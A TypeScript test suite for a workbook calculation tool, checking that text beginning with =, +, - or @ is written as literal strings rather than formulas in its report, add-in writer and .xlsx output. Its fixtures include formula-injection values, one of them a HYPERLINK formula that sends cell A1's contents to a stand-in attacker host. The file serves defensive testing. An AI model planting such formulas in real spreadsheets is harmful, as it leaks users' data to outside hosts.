/**
 * Formula injection: text taken from the workbook (forvaltning codes and names from Måltal and the
 * sheet names) that starts with `=`, `+`, `-` or `@` is written as text, never as a formula — in
 * the layout the engine returns, in the CLI's .xlsx output, and by the add-in's writer.
 */
import ExcelJS from "exceljs";
import JSZip from "jszip";
import { promises as fs } from "node:fs";
import * as path from "node:path";
import { calculate } from "../../src/core";
import type { Cell } from "../../src/core/grid";
import { asLiteral } from "../../src/office/write";
import { readXlsx, runCli, tempDir } from "../support/cli";
import { deptSheet, sheet, workbook } from "../support/grid";
import { gridToExcel } from "./helpers";

/** Codes (which become sheet names and table headers) and names (which go into table titles). */
const UNITS: [code: string, name: string][] = [
  ["=1+1", '=HYPERLINK("https://angriber.example/?d="&A1,"Klik her")'],
  ["+BUF", "+45 33 66 33 66"],
  ["-X", "-2+3"],
  ["@SUM(A1)", "@Forvaltning"],
];
const HOSTILE = UNITS.flat();

function hostileWorkbook() {
  const maaltal = sheet("Måltal", [["Forvaltning", "Navn", "Samlet måltal", "Fleksjob", "Fritidsjob"], ...UNITS.map(([c, n]): Cell[] => [c, n, 50, 40, 5])]);
  return workbook(maaltal, ...UNITS.map(([c]) => deptSheet(c, 2025)));
}

describe("formula injection", () => {
  it("the layout holds workbook text literally, as strings", () => {
    const out = calculate(hostileWorkbook());
    expect(out.issues).toEqual([]);
    const report = out.report;
    expect(report).not.toBeNull();
    const strings = report!.values.flat().filter((v): v is string => typeof v === "string");
    for (const [code, name] of UNITS) {
      // The code heads its table, alone in its cell; the name is part of the table's title.
      expect(strings).toContain(code);
      expect(strings.some((s) => s.includes(name))).toBe(true);
    }
  });

  it("the add-in's writer turns every text of the layout into a literal (apostrophe prefix), numbers stay numbers", () => {
    const report = calculate(hostileWorkbook()).report!;
    for (const row of report.values) {
      for (const v of row) {
        const written = asLiteral(v);
        if (typeof v === "string") expect(written).toBe(`'${v}`);
        else if (typeof v === "number") expect(written).toBe(v);
        else expect(written).toBe("");
      }
    }
  });

  describe("the CLI's .xlsx output", () => {
    let dir: string;
    let out: string;
    beforeAll(async () => {
      dir = await tempDir();
      const input = path.join(dir, "fjendtlig.xlsx");
      await gridToExcel(hostileWorkbook()).xlsx.writeFile(input);
      out = path.join(dir, "status.xlsx");
      const run = await runCli("beregn", input, "-o", out);
      expect(run.stderr).toBe("");
      expect(run.code).toBe(0);
      // The terminal tables show the text as it is, too.
      for (const [code] of UNITS) expect(run.stdout).toContain(code);
    });
    afterAll(async () => {
      await fs.rm(dir, { recursive: true, force: true });
    });

    it("holds the text as string cells, never formulas", async () => {
      const ws = (await readXlsx(out)).getWorksheet("Status 2025") as ExcelJS.Worksheet;
      const found = new Set<string>();
      ws.eachRow((row) =>
        row.eachCell((cell) => {
          expect(cell.type).not.toBe(ExcelJS.ValueType.Formula);
          expect(cell.formula).toBeUndefined();
          if (typeof cell.value === "string") for (const h of HOSTILE) if (cell.value === h || cell.value.includes(h)) found.add(h);
        }),
      );
      expect([...found].sort()).toEqual([...HOSTILE].sort());
      for (const [code] of UNITS) {
        let cells = 0;
        ws.eachRow((row) => row.eachCell((cell) => void (cell.value === code && cell.type === ExcelJS.ValueType.String && cells++)));
        expect(cells).toBe(1);
      }
    });

    it("has no formula element anywhere in the file (checked in the raw XML)", async () => {
      const zip = await JSZip.loadAsync(await fs.readFile(out));
      const sheets = Object.keys(zip.files).filter((f) => /^xl\/worksheets\/sheet\d+\.xml$/.test(f));
      // Måltal, the department sheets, the status sheet and the Kilder sheet (whose links are hyperlinks, not formulas).
      expect(sheets.length).toBe(UNITS.length + 3);
      for (const f of sheets) {
        const xml = await (zip.file(f) as JSZip.JSZipObject).async("string");
        expect(xml).not.toMatch(/<f[\s>]/);
      }
      const strings = await (zip.file("xl/sharedStrings.xml") as JSZip.JSZipObject).async("string");
      expect(strings).toContain("<t>=1+1</t>");
      expect(strings).toContain("<t>@SUM(A1)</t>");
    });
  });
});
